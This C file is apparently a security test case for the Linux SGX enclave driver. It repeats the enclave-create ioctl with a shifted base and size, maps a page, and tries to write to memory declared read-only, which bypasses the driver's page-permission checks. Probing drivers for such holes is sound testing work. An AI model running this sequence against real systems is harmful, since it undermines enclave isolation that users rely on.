// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * CREATE of the same enclave once more, at another address and of another size: slots are
 * numbered from the base, so that every page would come to lie at another page's address.
 * R21.1: once. The hole is create_again.
 */
#include <sys/ioctl.h>
#include <sys/mman.h>

#include "tricks.h"

void attack(void)
{
	struct sgx_enclave_create create;
	struct scene s;
	u64 at;

	scene_create(&s, 8);
	scene_add(&s, PAGE, 1, AVOW_R | AVOW_W);
	scene_add(&s, 5 * PAGE, 1, AVOW_R);
	at = scene_at(&s, 5 * PAGE);
	s.e.secs.base += 4 * PAGE;
	s.e.secs.size = 4 * PAGE;
	create.src = (u64)&s.e.secs;

	ATTEMPT(&s, ioctl(s.e.fd, SGX_IOC_ENCLAVE_CREATE, &create));
	ATTEMPT(&s, map_file_at(&s, at, 1, PROT_READ | PROT_WRITE, MAP_SHARED, 0));
	attempt_write(&s, at + 16, 0x5a);
	got_through("wrote at the address of a page that was declared R");
}
